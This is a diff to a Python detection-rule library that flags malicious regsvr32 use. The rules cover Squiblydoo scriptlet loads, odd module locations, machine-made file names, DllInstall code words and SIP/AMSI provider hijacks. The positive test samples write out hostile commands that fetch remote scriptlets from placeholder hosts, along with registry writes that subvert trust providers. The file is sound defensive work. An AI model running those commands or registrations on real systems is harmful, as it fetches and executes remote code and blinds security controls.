@@ -111,21 +111,36 @@ def _clip(text, n=160):
       sources=("L01", "QOMPLX", "Splunk 070e9b80", "CAR-2019-04-003", "Elastic EP 0524c24c",
                "Fibratus"),
       description=("regsvr32 hands a scriptlet to scrobj.dll's DllInstall through /i:, local or "
-                   "remote: the classic application-control bypass. Requires /i: so that "
-                   "re-registering scrobj.dll itself (a Windows Script Host repair step) stays "
-                   "quiet."),
+                   "remote: the classic application-control bypass. Whatever the quoting: "
+                   "switches quoted into one argument are read as their parts, scrobj.dll inside "
+                   "the /i: argument counts, and so does scrobj.dll next to a scriptlet or URL "
+                   "with no /i: read. Requires a scriptlet so that re-registering scrobj.dll "
+                   "itself (a Windows Script Host repair step) stays quiet."),
       positives=(
         "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
         "regsvr32.exe /s /u /i:C:\\Users\\Public\\file.sct scrobj.dll",
         {"EventCode": "4688", "NewProcessName": "C:\\Windows\\System32\\regsvr32.exe",
          "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
          "CommandLine": 'regsvr32 /u /s /i:"http://198.51.100.7/x.sct" SCROBJ.DLL', "Image": None,
-         "ParentImage": None},),
+         "ParentImage": None},
+        'regsvr32.exe "/s /i:https://cdn.example.net/x.sct scrobj.dll"',
+        'regsvr32 /s /i:"https://cdn.example.net/x.sct scrobj.dll"',
+        "regsvr32 /s https://cdn.example.net/x.sct scrobj.dll",),
       negatives=(
         "regsvr32 /s scrobj.dll",
-        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",))
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
+        "regsvr32 /s C:\\Users\\Public\\a.sct C:\\Windows\\System32\\msxml6.dll",))
 def squiblydoo(inv):
-    if inv.install_arg is None or ("module name", "scrobj.dll") not in inv.first:
+    scrobj = ("module name", "scrobj.dll") in inv.first
+    if inv.install_arg is None:
+        # no /i: read, but scrobj.dll next to a scriptlet or URL: the switches were mangled
+        # (quoting, a launcher's re-splitting), the intent is the same
+        other = [t for t in inv.modules if t.name != "scrobj.dll"
+                 and (t.kind == "url" or t.ext_class == winpath.SCRIPTLET)]
+        if scrobj and other:
+            return "scriptlet %s next to scrobj.dll (no /i: read)" % _clip(other[0].raw)
+        return None
+    if not scrobj and "scrobj" not in inv.install_arg.lower():
         return None
     if inv.install is not None and inv.install.kind == "url":
         return "scriptlet fetched from %s via /i: and scrobj.dll" % _clip(inv.install_arg)
@@ -636,6 +651,31 @@ def no_arguments(inv):
         _clip(inv.line))
 
 
+# Publishers of endpoint security products whose hook DLLs every process loads (Sysmon's
+# Signature, lower case, as it starts). Not Microsoft: Defender's own folders are ACL-protected
+# and trusted by location (winpath), and a Microsoft-signed DLL copied elsewhere is side-loading.
+SECURITY_SIGNERS = (
+    "crowdstrike", "sentinelone", "sentinel labs", "sophos", "symantec", "broadcom", "mcafee",
+    "trellix", "trend micro", "eset", "kaspersky", "bitdefender", "palo alto networks",
+    "cylance", "blackberry", "carbon black", "vmware, inc.", "cisco systems", "malwarebytes",
+    "avast", "avg technologies", "gen digital", "f-secure", "withsecure", "check point",
+    "fortinet", "cybereason", "elasticsearch", "tanium", "webroot", "panda security",
+    "g data", "deep instinct", "huntress", "rapid7", "qualys", "trustwave", "harfanglab",
+    "secureworks", "morphisec", "cynet", "opentext")
+
+
+def _security_product_hook(ev):
+    """A validly signed security vendor's module loaded from a folder of its own (not a staging,
+    suspicious or network folder): the product's hook in every process, context not evidence."""
+    if ev.signed.lower() != "true" or ev.signature_status.lower() not in ("valid", "trusted"):
+        return False
+    t = ev.loaded
+    if t.staging or t.location in (winpath.SUSPICIOUS, winpath.NETWORK, winpath.UNKNOWN):
+        return False
+    signer = ev.signature.lower()
+    return any(signer.startswith(name) for name in SECURITY_SIGNERS)
+
+
 @rule("R32-025", "regsvr32 loaded an unsigned module from outside Windows and Program Files",
       actor(IMAGE_LOAD), risk=70, family="image_loads", evidence="load",
       techniques=(T,), sources=("CAR-2019-04-002", "Veramine", "L22"),
@@ -724,16 +764,25 @@ def clr_in_regsvr32(ev):
       techniques=(T,), sources=("Veramine", "L12", "Elastic EP 76da5dca", "Sentinel f24f6403"),
       description=("Sysmon image load of a module in a user-writable, suspicious or network "
                    "location, or whose extension is not one a loaded module has (Elastic "
-                   "76da5dca)."),
+                   "76da5dca). Defender's ACL-protected ProgramData folders are not "
+                   "user-writable (MpOAV.dll, MpClient.dll load into every process), and a "
+                   "validly signed security vendor's hook DLL in a folder of its own is the "
+                   "product at work, not evidence."),
       positives=(
         {"ImageLoaded": "C:\\Users\\bob\\AppData\\Local\\Temp\\shell32.jpg"},
         {"ImageLoaded": "C:\\Users\\Public\\x.dll", "Signed": "false",
-         "SignatureStatus": "Unavailable", "Signature": ""},),
+         "SignatureStatus": "Unavailable", "Signature": ""},
+        {"ImageLoaded": "C:\\ProgramData\\Vendor\\hook.dll", "Signature": "Sophos Ltd",
+         "SignatureStatus": "Unavailable"},),
       negatives=(
         {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
-        {"ImageLoaded": "C:\\Program Files\\Vendor\\x.ocx"},))
+        {"ImageLoaded": "C:\\Program Files\\Vendor\\x.ocx"},
+        {"ImageLoaded": "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpOAV.dll",
+         "Signature": "Microsoft Corporation"},
+        {"ImageLoaded": "C:\\ProgramData\\Sophos\\Sophos Anti-Virus\\x64\\sophos_detoured_x64.dll",
+         "Signature": "Sophos Ltd"},))
 def odd_module_load(ev):
-    if not ev.image_loaded:
+    if not ev.image_loaded or _security_product_hook(ev):
         return None
     t = ev.loaded
     if t.location in (winpath.USER_WRITABLE, winpath.SUSPICIOUS, winpath.NETWORK):
@@ -1384,6 +1433,325 @@ def user_files(inv):
     for t in _payloads(inv):
         if t.staging and t.where in USER_FILE_FOLDERS:
             return "%s %s lies right in the user's %s folder" % (_role(t, inv), _clip(t.path), t.where)
+    return None
+
+
+# ---------------------------------------------------------------------------------------
+# Names made up by a machine, and folders made up by a loader (issue "Coverage that generalises").
+
+_VOWELS = frozenset("aeiouyAEIOUY")
+_LOWER_RUN = re.compile(r"[a-z]+")
+_DIGIT_RUN = re.compile(r"[0-9]+")
+_NUMBERED_COPY = re.compile(r"^[A-Za-z]{2,}[1-9]$")
+
+
+def random_looking(token):
+    """Why a file or folder name (its stem) reads as machine-made, or "": a run of five
+    consonants in the lower-case part of a mixed-case name (Nrtbxgdh); no vowel in seven or more
+    letters and digits with lower case among them (XMkkdsZZ, SqFXmRk), or in a capitalised name
+    of four letters or more (Rfgsg, Xnvr; lower-case abbreviations such as mssp and smsdp have
+    none either); single digits spliced between letters of both cases (RNidR2AF, Mk9i8nt; not
+    versions such as MMCodecV3.1); or a short name whose case flips twice (FeGhGhc, vlAShMf).
+    Words, acronyms (WMSDK, GLD), CamelCase abbreviations (SdkShv, DcTLSFileToDMSComp,
+    vbSendMail) and version numbers (TeeChart2018VBCtl, Win32Api) do not."""
+    if len(token) < 4 or len(token) > 40:
+        return ""
+    letters = [c for c in token if c.isalpha()]
+    if not letters or not all(c.isascii() for c in token):
+        return ""
+    has_lower = any(c.islower() for c in letters)
+    has_upper = any(c.isupper() for c in letters)
+    # (all lower case: abbreviations such as smsdp and mshdsp run five consonants too)
+    for run in _LOWER_RUN.findall(token) if has_upper else ():
+        consonants = 0
+        for c in run:
+            consonants = 0 if c in _VOWELS else consonants + 1
+            if consonants >= 5:
+                return "a run of five consonants"
+    if has_lower and not any(c in _VOWELS for c in letters) and (
+            (len(token) >= 7 and token.isalnum())
+            or (token.isalpha() and len(letters) >= 4 and letters[0].isupper()
+                and sum(1 for c in letters if c.isupper()) == 1)):
+        return "no vowel"
+    inner_digits = [m for m in _DIGIT_RUN.finditer(token)
+                    if m.start() > 0 and m.end() < len(token) and len(m.group()) == 1]
+    all_digits = _DIGIT_RUN.findall(token)
+    if has_lower and has_upper and token.isalnum() and (
+            len(all_digits) >= 2 or (inner_digits and len(token) <= 10)):
+        return "digits spliced between mixed-case letters"
+    flips = sum(1 for a, b in zip(token, token[1:]) if a.islower() and b.isupper())
+    if flips >= 2 and len(token) <= 8:
+        return "case flipping inside a short name"
+    return ""
+
+
+def _stem(name):
+    ext = winpath.extension(name)
+    return name[:-len(ext) - 1] if ext and name.lower().endswith("." + ext) else name.rstrip(". ")
+
+
+_SEPARATORS = re.compile(r"[\\\\/]+")
+
+
+def _written_names(t):
+    """The folder and file names the command line itself wrote, case kept (CamelCase tells
+    words apart): not the working directory a relative path was resolved against, whose case
+    the resolution lost."""
+    parts = [p for p in _SEPARATORS.split(t.raw.strip().strip('"')) if p and p not in (".", "..")]
+    if parts and parts[0].endswith(":"):
+        parts = parts[1:]
+    return parts
+
+
+@rule("R32-053", "Module one folder above the working folder, named like a download",
+      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
+      evidence="location",
+      techniques=(T, "T1204.002"), sources=("L09", "L28", "Elastic EP 5db08297"),
+      description=("The module is given as ..\\<file>: the file right in the folder above the "
+                   "working folder, and that file has a non-module extension, a short lower-case "
+                   "throwaway name (aew.ocx, su1.ocx, oxnv1.ooccxx) or a machine-made one. Office "
+                   "macros (Emotet and Qakbot XLM waves, 2020-2022) save their download as "
+                   "..\\<name> from the document's folder and register it so; build scripts "
+                   "climb into folders of their own (..\\x64\\Debug\\x.dll) and name their "
+                   "modules with words."),
+      positives=(
+        "regsvr32 -s ..\\iroto.dll",
+        "C:\\Windows\\System32\\regsvr32.exe ..\\oxnv1.ooccxx",
+        "regsvr32.exe ..\\wnrul.ocx",),
+      negatives=(
+        "%SystemRoot%\\System32\\regsvr32.exe ..\\MeProv.dll",
+        "regsvr32 -s ..\\..\\tools\\PartCover\\PartCover.CorDriver.dll",
+        "regsvr32.exe ..\\x64\\Debug\\WmiProviderExample.dll",),
+      false_positives="A build or sample script that keeps a short lower-case module in the "
+                      "folder above the one it runs in.")
+def parent_folder_download(inv):
+    for m in inv.modules:
+        raw = m.raw.strip().replace("/", "\\")
+        if not raw.startswith("..\\"):
+            continue
+        name = raw[3:].lstrip("\\")
+        if not name or "\\" in name:
+            continue
+        stem = _stem(name)
+        why = ""
+        if m.ext_class not in (winpath.MODULE, winpath.NO_EXT):
+            why = "a .%s file" % m.ext
+        elif stem and len(stem) <= 8 and stem == stem.lower() and stem.isalnum():
+            why = "a short lower-case throwaway name"
+        elif random_looking(stem):
+            why = "a machine-made name (%s)" % random_looking(stem)
+        if why:
+            return "module %s is taken from the folder above the working folder, %s" % (
+                _clip(m.raw), why)
+    return None
+
+
+@rule("R32-054", "Module in a new folder at the drive root, with machine-made names",
+      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
+      lowered_by=("own tree", "agent"),
+      evidence="location",
+      techniques=(T, "T1036"), sources=("L10", "Sigma 327ff235", "L11"),
+      description=("A module under a folder created at the root of drive C: (R32-039) whose "
+                   "names say a loader made it: a machine-made folder or file name (consonant "
+                   "runs, digits spliced into mixed case), no extension at all, a one-letter "
+                   "folder (C:\\a\\), or a numbered copy right in the folder "
+                   "(C:\\Biloa\\Dopaters3.ocx, the 1-2-3 loop of Qakbot's Excel 4.0 macros). "
+                   "Line-of-business software in such folders has word names (C:\\LOB\\Billing\\"
+                   "BillingCtl.ocx) and stays R32-039."),
+      positives=(
+        "regsvr32.exe -s C:\\XvI7AP77\\g8Xj4d2i\\x84wFBc7",
+        "regsvr32 C:\\Biloa\\Dopaters3.ocx",
+        "regsvr32 C:\\a\\Suios2.ocx",),
+      negatives=(
+        "regsvr32 /s C:\\LOB\\Billing\\BillingCtl.ocx",
+        "C:\\Windows\\System\\regsvr32.exe /u C:\\AddressBook\\vbSendMail.dll",
+        "regsvr32 c:\\yourfolder\\TeeChart2018VBCtl.ocx",
+        "regsvr32 /s C:\\Users\\Public\\x84wFBc7.dll",),
+      false_positives="Software installed in a root folder with an abbreviated name (consonant "
+                      "runs such as C:\\Tools\\DirBkgndExt when five letters long) or numbered "
+                      "control files right in it.")
+def root_folder_made_up(inv):
+    for m in inv.modules:
+        if m.location != winpath.OTHER or m.where == "drive root" or len(m.comps) < 3:
+            continue
+        folders, name = m.comps[1:-1], m.comps[-1]
+        written = _written_names(m)
+        stem = _stem(name)
+        why = ""
+        for c in written[:-1] + [_stem(written[-1])] if written else ():
+            why = random_looking(c)
+            if why:
+                why = "%s: %s" % (why, c)
+                break
+        if not why and not m.ext:
+            why = "the module has no extension"
+        elif not why and len(folders[0]) == 1:
+            why = "a one-letter folder %s" % folders[0]
+        elif not why and len(folders) == 1 and _NUMBERED_COPY.match(stem):
+            why = "a numbered copy %s right in the folder" % name
+        if why:
+            return "module %s is in a new folder at the drive root with made-up names (%s)" % (
+                _clip(m.path), why)
+    return None
+
+
+@rule("R32-055", "Switch spelled out, or one regsvr32 does not have",
+      COMMAND_LINE, risk=25, family="implicit_dllregisterserver_and_odd_invocations",
+      lowered_by=("windows", "trusted", "own tree", "agent"),
+      evidence="syntax",
+      techniques=(T,), sources=("L29", "L31"),
+      description=("-silent, /unregister, /register or a letter regsvr32 does not know (/q, /x): "
+                   "regsvr32 reads only the letter after the dash, so a spelled-out or made-up "
+                   "switch is typed by a person at a keyboard, not written by an installer "
+                   "(Qakbot operators' 'regsvr32 -silent'). Low on its own: how-to pages spell "
+                   "switches out too."),
+      positives=(
+        "regsvr32.exe -silent C:\\Users\\mlopez\\Celod.wac",
+        "regsvr32 /q C:\\ProgramData\\x.dll",),
+      negatives=(
+        "regsvr32 /s /u C:\\ProgramData\\x.dll",
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
+      false_positives="How-to pages and hand-written scripts (/unregister, /CodeBase).")
+def typed_switch(inv):
+    typed = list(inv.spelled_switches) + list(inv.unknown_switches)
+    if not typed:
+        return None
+    return "switch written as only a person types it: %s" % ", ".join(typed[:4])
+
+
+# DllInstall's per-user convention: /n /i:user (Microsoft's own shell extensions, Teams, OneDrive).
+PER_USER_WORDS = frozenset(("user", "u", "/user", "-user", "peruser", "per-user", "currentuser",
+                            "hkcu", "1"))
+
+
+@rule("R32-056", "DllInstall-only code word on a module in a per-user folder",
+      COMMAND_LINE, risk=60, family="implicit_dllregisterserver_and_odd_invocations",
+      lowered_by=("agent",),
+      evidence="invocation", techniques=(T,), sources=("L05", "Sigma b236190c", "L09"),
+      description=("/n /i:<word> calls only DllInstall of a module in the user profile or "
+                   "ProgramData, and the word is not DllInstall's per-user convention (user): "
+                   "a loader's stage name or run key (Matanbuchus' -n -i:\"Install\" on "
+                   "AppData\\Local\\<FakeVendor>\\main.dll, -e -n -i:\"Update Installation\"). "
+                   "Per-user installs register with /i:user, and vendors that take their own "
+                   "word install under Program Files (R32-047)."),
+      positives=(
+        'regsvr32.exe -n -i:"Install" C:\\Users\\bob\\AppData\\Local\\AdobeFontPack\\main.dll',
+        'regsvr32 -e -n -i:"Update Installation" "C:\\Users\\bob\\fm_j\\ooTCNA.Hcw.Thw"',),
+      negatives=(
+        'regsvr32 /s /n /i:user "C:\\Users\\bob\\AppData\\Local\\Microsoft\\TeamsMeetingAddin\\1.0\\x64\\Microsoft.Teams.AddinLoader.dll"',
+        'regsvr32 /s /n /i:Install "C:\\Program Files\\Vendor\\x.dll"',
+        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\x.dll",),
+      false_positives="A per-user install whose DllInstall takes its own word.")
+def per_user_code_word(inv):
+    if not inv.flags >= {"n", "i"} or inv.install_arg is None or inv.install is not None:
+        return None
+    word = inv.install_arg.strip().strip('"').lower()
+    if word in PER_USER_WORDS:
+        return None
+    for m in inv.modules:
+        if m.location == winpath.USER_WRITABLE:
+            return "/n /i:%s calls only DllInstall of %s, in %s" % (
+                _clip(inv.install_arg, 60), _clip(m.path), m.where)
+    return None
+
+
+_ATOMIC_TEST = re.compile(r"^t[0-9]{4}(?:\.[0-9]{3})?$")
+
+
+@rule("R32-057", "Purple-team test module (Atomic Red Team)",
+      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
+      evidence="campaign",
+      techniques=(T,), sources=("L31", "Atomic Red Team T1218.010"),
+      description=("A module or scriptlet in an atomics\\T<number> folder: an Atomic Red Team "
+                   "test (AllTheThings, GTSIPProvider, RegSvr32.sct) run by a purple team. An "
+                   "exercise is meant to be seen, so it alerts as high."),
+      positives=(
+        'regsvr32 /s /i "C:\\AtomicRedTeam\\atomics\\T1218.010\\bin\\AllTheThingsx86.dll"',
+        "regsvr32.exe C:\\AtomicRedTeam\\atomics\\T1553.003\\bin\\GTSIPProvider.dll",),
+      negatives=(
+        "regsvr32 /s C:\\Tools\\atomics\\bin\\x.dll",
+        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
+      false_positives="Purple-team exercises, by design.")
+def atomic_test(inv):
+    for t in inv.targets:
+        comps = t.lower.split("\\")
+        for a, b in zip(comps, comps[1:]):
+            if a == "atomics" and _ATOMIC_TEST.match(b):
+                return "%s %s is an Atomic Red Team test (%s)" % (_role(t, inv), _clip(t.path),
+                                                                   b.upper())
+    return None
+
+
+# In-process providers that Windows loads into other processes from a registry value: a module
+# regsvr32 registers there runs in every process that verifies a signature (SIP and trust
+# providers), scans content (AMSI), or starts a service (time providers, print monitors, netsh).
+# (key part, what it is, whether the key alone is the registration)
+PROVIDER_KEYS = (
+    ("\\microsoft\\amsi\\providers\\", "AMSI provider", True),
+    ("\\cryptsipdll", "SIP provider", False),
+    ("\\microsoft\\cryptography\\providers\\trust\\", "trust provider", False),
+    ("\\w32time\\timeproviders\\", "time provider", False),
+    ("\\control\\print\\monitors\\", "print monitor", False),
+    ("\\software\\microsoft\\netsh", "netsh helper", False),
+    ("\\windows nt\\currentversion\\windows\\appinit_dlls", "AppInit DLL", False),
+)
+# Of these, the ones whose module is evidence wherever it is outside Windows (a vendor that
+# installs a time provider or print monitor in Program Files is ordinary).
+_TRUST_PROVIDERS = ("AMSI provider", "SIP provider", "trust provider")
+
+
+@rule("R32-058", "regsvr32 registered a SIP, trust, AMSI or other in-process provider",
+      actor(REGISTRY), risk=75, family="registry_persistence_and_scrobj_com_hijack",
+      evidence="persistence",
+      techniques=("T1553.003", "T1562.001", "T1546", T),
+      sources=("L26", "Atomic Red Team T1553.003", "SpecterOps Subverting Trust in Windows"),
+      description=("A registry write by regsvr32 (Sysmon 12/13/14 or an EDR's registry event) "
+                   "under AMSI\\Providers, a CryptSIPDll* SIP key or Cryptography\\Providers\\Trust "
+                   "with a module outside the Windows folder, or a time provider, print monitor, "
+                   "netsh helper or AppInit value with a module outside Windows and Program "
+                   "Files: the module's DllRegisterServer made itself a provider that Windows "
+                   "loads into other processes (signature checks that pass anything, AMSI "
+                   "blinded, persistence)."),
+      positives=(
+        {"EventCode": "13",
+         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllGetSignedDataMsg\\{C3BB8D1D-7DC4-4C4A-B1BA-2C3F6F0C9F4E}\\Dll",
+         "Details": "C:\\AtomicRedTeam\\atomics\\T1553.003\\bin\\GTSIPProvider.dll"},
+        {"EventCode": "12", "EventType": "CreateKey",
+         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2E5D8A62-77F9-4F7B-A90C-2744820139B2}"},
+        {"EventCode": "13",
+         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\Providers\\Trust\\FinalPolicy\\{00AAC56B-CD44-11D0-8CC2-00C04FC295EE}\\$DLL",
+         "Details": "C:\\Users\\bob\\AppData\\Local\\Temp\\trust.dll"},),
+      negatives=(
+        {"EventCode": "13",
+         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllGetSignedDataMsg\\{603BCC1F-4B59-4E08-B724-D2C6297EF351}\\Dll",
+         "Details": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\pwrshsip.dll"},
+        {"EventCode": "13",
+         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllGetSignedDataMsg\\{C689AAB8-8E78-11D0-8C47-00C04FC295EE}\\FuncName",
+         "Details": "CryptSIPGetSignedDataMsg"},
+        {"EventCode": "13", "Image": "C:\\Program Files\\Vendor\\setup.exe",
+         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2E5D8A62-77F9-4F7B-A90C-2744820139B2}\\(Default)",
+         "Details": "Vendor AMSI provider"},
+        {"EventCode": "13",
+         "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\VendorTime\\DllName",
+         "Details": "C:\\Program Files\\Vendor\\vtime.dll"},),
+      false_positives="Security products and signing tools whose installer registers their own "
+                      "AMSI or SIP provider with regsvr32 (allowlist them by key).")
+def provider_hijack(ev):
+    key = ev.registry_path.lower()
+    for part, what, key_alone in PROVIDER_KEYS:
+        if part not in key:
+            continue
+        data = ev.registry_data.strip().strip('"')
+        if key_alone:
+            return "regsvr32 registered an %s: %s" % (what, _clip(ev.registry_path))
+        if "\\" not in data:            # a function name, a flag, or a bare name from System32
+            return None
+        t = winpath.classify(data.split(",")[0].strip('"'))
+        if t.location == winpath.WINDOWS and not t.anomalies:
+            return None
+        if what not in _TRUST_PROVIDERS and t.location == winpath.PROGRAM_FILES:
+            return None
+        return "regsvr32 made %s a %s: %s" % (_clip(data, 120), what, _clip(ev.registry_path))
     return None
 
 
